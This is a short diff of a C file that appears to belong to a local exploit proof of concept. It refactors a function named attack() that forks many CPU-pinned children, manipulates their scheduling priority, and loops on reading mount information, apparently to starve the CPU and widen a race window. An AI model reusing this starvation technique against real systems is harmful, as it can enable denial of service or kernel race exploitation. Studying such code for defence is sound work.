@@ -9,17 +9,6 @@ static void read_mounts(void) {
 }
 
 int attack(void) {
-    struct sched_param least = {0};
-    cpu_set_t one;
-    CPU_ZERO(&one);
-    CPU_SET(sched_getcpu(), &one);
-    sched_setaffinity(0, sizeof one, &one);
-    for (int child = 0; child < 40; child++) {
-        if (fork()) continue;
-        while (child % 4) {}
-        sched_setscheduler(0, SCHED_IDLE, &least);
-        setpriority(PRIO_PROCESS, 0, 19);
-        for (;;) read_mounts();
-    }
-    for (;;) {}
+    starve();
+    for (;;) read_mounts();
 }
